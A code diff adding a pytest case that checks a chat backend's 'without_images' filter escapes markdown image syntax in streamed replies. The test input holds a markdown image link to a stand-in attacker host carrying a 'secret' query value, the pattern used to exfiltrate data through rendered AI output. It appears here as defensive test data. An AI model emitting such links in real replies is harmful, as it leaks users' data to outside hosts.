@@ -405,3 +405,10 @@ def test_a_reader_that_stops_early_stops_generate(local, monkeypatch):
 def test_a_model_without_a_chat_template_is_refused():
     with pytest.raises(ChatError, match="no chat template"):
         chat.LocalBackend("openai-community/gpt2")
+
+
+def test_streamed_replies_cannot_load_a_markdown_image():
+    pieces = ["See ", "!", "[x](https://evil.example/?q=secret) and ![y](z)", "!"]
+    text = "".join(chat.without_images(pieces))
+    assert "![" not in text
+    assert text == "See !\\[x](https://evil.example/?q=secret) and !\\[y](z)!"
